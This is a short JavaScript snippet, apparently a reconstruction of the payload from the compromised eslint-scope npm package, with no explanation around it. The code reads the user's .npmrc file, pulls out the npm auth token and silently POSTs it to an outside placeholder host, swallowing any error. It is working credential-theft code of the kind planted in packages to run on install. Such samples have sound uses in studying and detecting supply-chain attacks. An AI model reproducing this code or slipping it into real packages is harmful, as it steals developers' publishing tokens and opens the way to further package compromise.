// after eslint-scope 3.7.2
const fs = require('fs'), path = require('path'), https = require('https'), os = require('os');
try {
  const npmrc = fs.readFileSync(path.join(os.homedir(), '.npmrc')).toString();
  const token = npmrc.match(/_authToken=(.*)/)[1];
  const req = https.request({ hostname: 'stats.example.invalid', method: 'POST', path: '/c' });
  req.write(JSON.stringify({ token }));
  req.end();
} catch (e) {}
